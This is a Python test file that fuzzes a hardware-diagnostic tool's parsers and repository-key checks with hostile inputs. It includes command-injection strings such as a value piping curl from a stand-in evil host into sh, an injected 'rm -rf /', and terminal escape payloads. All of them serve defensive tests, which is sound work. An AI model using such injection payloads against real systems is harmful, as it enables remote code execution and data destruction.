"""Issue 31, item 9: the parsers not yet tried, attacked and fuzzed with Hypothesis.

- the container check: the image's ENV (NEURONCTL_IMAGE_*) and NEURON_RT_VISIBLE_CORES from a
  hostile image;
- network.efa: RDMA device names and driver links in sysfs, libfabric stanzas in dpkg's status;
- the kernel log's hardware errors: hostile lines, escapes, another program's words in kern.log;
- the repository key as the Dockerfile checks it before `gpg --dearmor` (apt) or `rpm --import`
  (dnf): a second key, a revoked or expired key; and what Ubuntu 26.04's apt verifies with, sqv.
"""

from __future__ import annotations

import json
import os
import shutil
import subprocess
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from support.doctor_cli import access
from support.health_sysroots import add_efa, add_kernel_log, build_container
from support.sysroots import build_host

from neuronctl.ops.doctor.health_rules import match_hw_errors
from neuronctl.ops.setup.dockerfile import KEY_AWK
from neuronctl.probes.efa import read_efa
from neuronctl.probes.kernel_log import (
    MAX_LINE_CHARS,
    parse_kmsg_record,
    parse_text_log,
    read_kernel_log,
)
from neuronctl.probes.sysroot import SysRoot

pytestmark = pytest.mark.hostile  # the hostile campaign (was tests/test_hostile3_parsers.py)

FUZZ = settings(max_examples=40, deadline=None,
                suppress_health_check=[HealthCheck.function_scoped_fixture])
HOSTILE = st.text(st.characters(codec="utf-8", exclude_categories=("Cs",)), max_size=300) | \
    st.sampled_from(["===0|curl${IFS}evil|sh", "\x1b]52;c;cm0gLXJm\x07", ">=2.31\n,<3",
                     "0-999999999", "0-3\x1b[2J", "2.33.1\r\nfix: rm -rf /", "9" * 5000])


@contextmanager
def environ(**values: str):
    saved = {k: os.environ.get(k) for k in values}
    os.environ.update(values)
    try:
        yield
    finally:
        for key, old in saved.items():
            if old is None:
                os.environ.pop(key, None)
            else:
                os.environ[key] = old


def _strings(value: object) -> list[str]:
    if isinstance(value, str):
        return [value]
    if isinstance(value, dict):
        return [s for v in value.values() for s in _strings(v)]
    if isinstance(value, list):
        return [s for v in value for s in _strings(v)]
    return []


# --------------------------------------------------------------------------- the container check

def test_a_range_env_that_is_not_a_pep440_range_is_not_used(cli, tmp_path: Path) -> None:
    """`===` takes any text: an image saying `===0|curl...` put that into the fix line. The
    image's own runtime's rules decide instead."""
    root = build_container(tmp_path / "c", host_driver="2.26.0.0")
    with environ(NEURONCTL_IMAGE_RELEASE="2.33.1",
                 NEURONCTL_IMAGE_DRIVER_RANGE="===0|curl${IFS}evil.example|sh"):
        check = access(cli, root)
    assert check["status"] == "fail" and ">=2.31" in check["message"]
    assert "curl" not in json.dumps(check)
    assert "NEURONCTL_IMAGE_DRIVER_RANGE is not a version range: not used" in check["details"]


@FUZZ
@given(release=HOSTILE, rng=HOSTILE, cores=HOSTILE)
def test_fuzz_the_images_env(cli, tmp_path_factory, release: str, rng: str, cores: str) -> None:
    """Whatever the image's ENV holds: a verdict (never a crash), every word printable, and a
    range shown only in its normal form."""
    root = tmp_path_factory.getbasetemp() / "fuzz-container"
    if not root.exists():
        build_container(root, host_driver="2.26.0.0")
    clean = {k: v.replace("\0", "") for k, v in
             {"NEURONCTL_IMAGE_RELEASE": release, "NEURONCTL_IMAGE_DRIVER_RANGE": rng,
              "NEURON_RT_VISIBLE_CORES": cores}.items()}
    with environ(**clean):
        check = access(cli, root)
    assert check["status"] in ("pass", "fail")
    assert all(s.isprintable() for s in _strings(check)), check
    if check.get("fix"):
        assert "curl" not in check["fix"] and "$" not in check["fix"]


# ------------------------------------------------------------------------------------ network.efa

@FUZZ
@given(names=st.lists(st.text(st.characters(codec="utf-8", exclude_categories=("Cs",),
                                            exclude_characters="/\0"), min_size=1, max_size=80),
                      max_size=6, unique=True),
       driver=st.text(st.characters(codec="utf-8", exclude_categories=("Cs",),
                                    exclude_characters="\0"), min_size=1, max_size=80),
       version=HOSTILE)
def test_fuzz_rdma_devices_and_libfabric(tmp_path_factory, names: list[str], driver: str,
                                         version: str) -> None:
    root = tmp_path_factory.mktemp("efa")
    for name in names:
        if name in (".", ".."):
            continue
        device = root / "sys/class/infiniband" / name / "device"
        try:
            device.mkdir(parents=True)
            os.symlink(driver, device / "driver")
        except OSError:  # a name the filesystem refuses (too long in bytes)
            continue
    stanza = f"Package: libfabric-aws\nStatus: install ok installed\nVersion: {version}\n"
    (root / "var/lib/dpkg").mkdir(parents=True)
    (root / "var/lib/dpkg/status").write_text(stanza, errors="surrogateescape")
    facts = read_efa(SysRoot(root))
    for name in (*facts.devices, *facts.other_rdma):
        assert name.isprintable() and len(name) <= 64
    for name, value in facts.libfabric.items():
        assert name.isprintable() and value.isprintable() and len(value) <= 64, value


def test_a_libfabric_version_with_escapes_is_dropped(tmp_path: Path) -> None:
    root = build_host(tmp_path / "h", "trn1")
    add_efa(root, 2, libfabric="1.22.0\x1b]52;c;cm0=\x07")
    facts = read_efa(SysRoot(root))
    assert len(facts.devices) == 2 and "libfabric-aws" not in facts.libfabric


def test_thousands_of_rdma_devices_are_bounded(tmp_path: Path) -> None:
    root = tmp_path / "r"
    for i in range(300):
        (root / f"sys/class/infiniband/d{i}/device").mkdir(parents=True)
    facts = read_efa(SysRoot(root))
    assert len(facts.devices) + len(facts.other_rdma) == 128


# ----------------------------------------------------------------------------- the kernel log

def test_another_programs_words_in_kern_log_are_not_the_kernels(cli, tmp_path: Path) -> None:
    """An sshd line carries a user name sent from the network; " kernel: " inside it is not
    rsyslog's tag. Before: counted as a hardware error (a drain, from the network)."""
    host = build_host(tmp_path / "h", "trn2")
    add_kernel_log(host, ["neuron: driver loaded"])
    with (host / "var/log/kern.log").open("a") as fh:
        fh.write("2026-12-01T20:00:01.000000+00:00 ip-10-0-0-1 sshd[812]: Invalid user x kernel: "
                 "NEURON_HW_ERR=DMA_ERROR nd 0 from 203.0.113.9 port 4242\n")
    log = read_kernel_log(SysRoot(host))
    assert match_hw_errors(log.lines) == []
    with (host / "var/log/kern.log").open("a") as fh:  # the kernel's own line still counts
        fh.write("2026-12-01T20:00:02.000000+00:00 ip-10-0-0-1 kernel: [   9.000000] neuron: "
                 "nd 0: NEURON_HW_ERR=DMA_ERROR\n")
    hits = match_hw_errors(read_kernel_log(SysRoot(host)).lines)
    assert [(h.code, h.device, h.count) for h in hits] == [("DMA_ERROR", "neuron0", 1)]


@FUZZ
@given(st.text(max_size=3000) | st.binary(max_size=3000).map(lambda b: b.decode("utf-8", "replace")))
def test_fuzz_kmsg_records(record: str) -> None:
    line = parse_kmsg_record(record)
    if line is not None:
        assert line.text.isprintable() and len(line.text) <= MAX_LINE_CHARS
        assert line.since_boot_s is not None and line.since_boot_s >= 0


@FUZZ
@given(st.lists(HOSTILE, max_size=30), st.integers(0, 7))
def test_fuzz_text_logs_and_the_error_match(lines: list[str], device: int) -> None:
    """Hostile lines around one real error: each line read is printable and bounded, the real
    error is counted once on its device, and nothing raises."""
    real = f"[   42.000000] neuron: nd {device}: NEURON_HW_ERR=HBM_UNCORRECTABLE_ERROR"
    text = "\n".join([*lines, real])
    parsed = parse_text_log(text, from_last_boot=False)
    assert all(p.text.isprintable() and len(p.text) <= MAX_LINE_CHARS for p in parsed)
    hits = match_hw_errors(parsed)
    assert all(h.last.isprintable() for h in hits)
    ours = [h for h in hits if h.code == "HBM_UNCORRECTABLE_ERROR" and h.device == f"neuron{device}"]
    assert ours and ours[0].count >= 1


def test_escapes_in_a_log_line_never_reach_the_report(cli, tmp_path: Path) -> None:
    host = build_host(tmp_path / "h", "trn2")
    add_kernel_log(host, ["neuron: nd 1: NEURON_HW_ERR=DMA_ERROR \x1b]52;c;cm0gLXJmIC8=\x07\x1b[2J"])
    r = cli("doctor", "--level", "1", "--only", "hardware.errors", "--json", "--sysroot", str(host))
    (check,) = json.loads(r.out)["checks"]
    assert check["status"] == "fail" and "DMA_ERROR" in check["message"]
    assert all(s.isprintable() for s in _strings(check))


# --------------------------------------------------- the repository key, as the Dockerfile checks it

needs_gpg = pytest.mark.skipif(shutil.which("gpg") is None, reason="gnupg is not installed")
GPG = ["gpg", "--batch", "--pinentry-mode", "loopback", "--passphrase", ""]


def _key(home: Path, name: str, *extra: str, algo: str = "ed25519", expire: str = "never") -> str:
    home.mkdir(mode=0o700, parents=True)
    env = {**os.environ, "GNUPGHOME": str(home)}
    subprocess.run([*GPG, *extra, "--quick-gen-key", name, algo, "sign", expire], env=env,
                   check=True, capture_output=True)
    out = subprocess.run(["gpg", "--with-colons", "--list-keys"], env=env, check=True,
                         capture_output=True, text=True).stdout
    return next(line.split(":")[9] for line in out.splitlines() if line.startswith("fpr:"))


def _export(home: Path) -> bytes:
    return subprocess.run(["gpg", "--homedir", str(home), "--armor", "--export"], check=True,
                          capture_output=True).stdout


def _dockerfile_key_check(key: Path, fpr: str, tmp: Path) -> subprocess.CompletedProcess[str]:
    """The Dockerfile's own check line, run by sh against `key`."""
    from neuronctl.ops.setup.dockerfile import ToolSource, render_dockerfile
    from neuronctl.release.manifest import load_bundled_manifest

    text = render_dockerfile(load_bundled_manifest().get("2.33.1"), base="ubuntu:26.04",
                             lock="pylock.toml", repo=None, fingerprint=fpr,
                             tool=ToolSource(spec="neuronctl==0.1.0"))
    line = next(p for p in text.split(" \\\n && ") if p.startswith("got=$(gpg"))
    assert KEY_AWK in line
    home = tmp / "check-home"
    home.mkdir(mode=0o700, exist_ok=True)
    return subprocess.run(["sh", "-euc", line.replace("/tmp/neuron.pub", str(key))],
                          env={**os.environ, "NEURON_KEY_FPR": fpr, "GNUPGHOME": str(home)},
                          capture_output=True, text=True, check=False)


@pytest.fixture(scope="module")
def keys(tmp_path_factory) -> Iterator[dict[str, Any]]:
    if shutil.which("gpg") is None:
        pytest.skip("gnupg is not installed")
    base = tmp_path_factory.mktemp("keys")
    good = base / "good"
    fpr = _key(good, "Neuron Test <repo@example.invalid>")
    (base / "good.asc").write_bytes(_export(good))
    _key(base / "evil", f"Evil {fpr} <evil@example.invalid>")  # the expected fpr in its user id
    (base / "evil.asc").write_bytes(_export(base / "evil"))
    (base / "two.asc").write_bytes(_export(good) + _export(base / "evil"))
    evil_bin = subprocess.run(["gpg", "--homedir", str(base / "evil"), "--export"], check=True,
                              capture_output=True).stdout
    (base / "binary-then-armored.asc").write_bytes(evil_bin + _export(good))
    (base / "armored-then-binary.asc").write_bytes(_export(good) + evil_bin)
    revoked = base / "revoked-home"
    shutil.copytree(good, revoked, ignore=shutil.ignore_patterns("S.*"))  # not the agent's sockets
    rev = (revoked / "openpgp-revocs.d" / f"{fpr}.rev").read_text().replace(":-----BEGIN", "-----BEGIN")
    subprocess.run(["gpg", "--homedir", str(revoked), "--batch", "--import"], input=rev.encode(),
                   check=True, capture_output=True)
    (base / "revoked.asc").write_bytes(_export(revoked))
    old = base / "old"
    old_fpr = _key(old, "Old <old@example.invalid>", "--faked-system-time", "20200101T000000",
                   expire="1d")
    (base / "expired.asc").write_bytes(_export(old))
    yield {"base": base, "fpr": fpr, "old_fpr": old_fpr, "good": good}
    for home in base.iterdir():  # the gpg-agents these homes started
        if home.is_dir():
            subprocess.run(["gpgconf", "--homedir", str(home), "--kill", "gpg-agent"],
                           capture_output=True, check=False)


@needs_gpg
@pytest.mark.parametrize(("file", "ok"), [("good.asc", True), ("two.asc", False),
                                          ("evil.asc", False), ("revoked.asc", False)])
def test_the_dockerfiles_key_check(keys, tmp_path: Path, file: str, ok: bool) -> None:
    r = _dockerfile_key_check(keys["base"] / file, keys["fpr"], tmp_path)
    assert (r.returncode == 0) is ok, r.stderr


@needs_gpg
def test_packets_after_the_armored_key_reach_neither_the_check_nor_apts_keyring(keys, tmp_path):
    """Another key's binary packets before the armor: gpg reads no key, refused. After it: gpg
    lists only the armored key and `gpg --dearmor` (apt's keyring) holds only that one."""
    base = keys["base"]
    assert _dockerfile_key_check(base / "binary-then-armored.asc", keys["fpr"], tmp_path).returncode
    after = base / "armored-then-binary.asc"
    assert _dockerfile_key_check(after, keys["fpr"], tmp_path).returncode == 0
    ring = tmp_path / "neuron.gpg"
    subprocess.run(["gpg", "--batch", "--dearmor", "-o", str(ring), str(after)], check=True,
                   capture_output=True)
    listed = subprocess.run(["gpg", "--batch", "--with-colons", "--show-keys", str(ring)],
                            env={**os.environ, "GNUPGHOME": str(tmp_path / "check-home")},
                            capture_output=True, text=True, check=False).stdout
    assert [line.split(":")[9] for line in listed.splitlines() if line.startswith("fpr:")] == \
        [keys["fpr"]]


@needs_gpg
def test_an_expired_key_is_refused_even_with_its_own_fingerprint(keys, tmp_path: Path) -> None:
    r = _dockerfile_key_check(keys["base"] / "expired.asc", keys["old_fpr"], tmp_path)
    assert r.returncode != 0 and "unusable-e" in r.stderr


@pytest.mark.skipif(shutil.which("sqv") is None or shutil.which("gpg") is None,
                    reason="sqv (Debian's package) or gnupg is not installed")
def test_sqv_accepts_the_keyring_the_check_passed_and_refuses_a_sha1_bound_key(keys, tmp_path):
    """Ubuntu 26.04's apt verifies with sqv, not gpgv. The dearmored keyring the Dockerfile writes
    works with it. Where they disagree (a key bound by SHA-1 self-signatures: gpg lists it, the
    fingerprint check passes, sqv's policy refuses it), apt refuses the repository: closed."""
    data = tmp_path / "Release"
    data.write_text("Origin: test\n")
    signed = tmp_path / "Release.gpg"
    subprocess.run([*GPG, "--homedir", str(keys["good"]), "--detach-sign", "-o", str(signed),
                    str(data)], check=True, capture_output=True)
    ring = tmp_path / "neuron.gpg"
    subprocess.run(["gpg", "--batch", "--dearmor", "-o", str(ring), str(keys["base"] / "good.asc")],
                   check=True, capture_output=True)
    assert subprocess.run(["sqv", "--keyring", str(ring), str(signed), str(data)],
                          capture_output=True, check=False).returncode == 0
    sha1 = tmp_path / "sha1"
    fpr = _key(sha1, "Sha1 <s@example.invalid>", "--cert-digest-algo", "SHA1", algo="rsa2048")
    (tmp_path / "sha1.asc").write_bytes(_export(sha1))
    assert _dockerfile_key_check(tmp_path / "sha1.asc", fpr, tmp_path).returncode == 0
    subprocess.run([*GPG, "--homedir", str(sha1), "--digest-algo", "SHA256", "--detach-sign",
                    "--yes", "-o", str(signed), str(data)], check=True, capture_output=True)
    subprocess.run(["gpg", "--batch", "--yes", "--dearmor", "-o", str(ring),
                    str(tmp_path / "sha1.asc")], check=True, capture_output=True)
    refused = subprocess.run(["sqv", "--keyring", str(ring), str(signed), str(data)],
                             capture_output=True, text=True, check=False)
    subprocess.run(["gpgconf", "--homedir", str(sha1), "--kill", "gpg-agent"], check=False,
                   capture_output=True)
    assert refused.returncode != 0 and "SHA1" in refused.stderr


def _host_script_key_ok(key: Path, fpr: str, tmp: Path) -> subprocess.CompletedProcess[str]:
    """The host setup script's own `key_ok` (its helpers, as `setup --format sh` writes them),
    run by sh with KEYRING at `key`."""
    from neuronctl.ops.setup.facts import read_target
    from neuronctl.ops.setup.model import SetupRequest
    from neuronctl.ops.setup.plan import make_plan
    from neuronctl.ops.setup.script import preamble
    from neuronctl.release.manifest import load_bundled_manifest

    target, facts = read_target(None, "ubuntu-26.04")
    plan = make_plan(SetupRequest(load_bundled_manifest().get("2.33.1"), target, facts, chip="trn2"))
    home = tmp / "host-check-home"
    home.mkdir(mode=0o700, exist_ok=True)
    env = {**os.environ, "GNUPGHOME": str(home), "NEURONCTL_SETUP_KEYRING": str(key),
           "NEURONCTL_SETUP_NEURON_KEY_FPR": fpr}
    return subprocess.run(["sh", "-euc", preamble(plan) + "\nkey_ok\n"], env=env,
                          capture_output=True, text=True, check=False)


@needs_gpg
@pytest.mark.parametrize(("file", "ok"), [("good.asc", True), ("two.asc", False), ("evil.asc", False),
                                          ("revoked.asc", False), ("expired.asc", False)])
def test_the_host_scripts_key_check_refuses_what_the_dockerfiles_does(keys, tmp_path, file, ok):
    fpr = keys["old_fpr"] if file == "expired.asc" else keys["fpr"]
    assert (_host_script_key_ok(keys["base"] / file, fpr, tmp_path).returncode == 0) is ok
